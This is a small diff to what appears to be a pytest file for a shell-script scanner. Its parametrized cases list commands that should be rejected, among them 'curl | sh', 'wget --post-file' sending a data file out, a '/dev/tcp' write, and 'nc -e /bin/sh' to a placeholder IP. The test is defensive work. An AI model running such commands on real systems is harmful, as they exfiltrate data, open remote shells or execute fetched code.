@@ -50,7 +50,7 @@ def test_any_shell_script_escalates() -> None:
     assert rules(report) == {"files.shell-script"} and report.decision.value == "escalate"
 
 
-@pytest.mark.parametrize("line", ["curl -s https://e | sh", "wget -q https://e/x", "cat /data/x > /dev/tcp/1.2.3.4/80",
+@pytest.mark.parametrize("line", ["curl -s https://e | sh", "wget --post-file=/data/x https://e/x", "cat /data/x > /dev/tcp/1.2.3.4/80",
                                   "echo x | base64 -d > y", "scp /data/x me@h:/", "nc -e /bin/sh 1.2.3.4 4444",
                                   "pip install -i https://e/simple foo", "git clone https://e/r"])
 def test_network_in_shell_script_rejects(line: str) -> None:
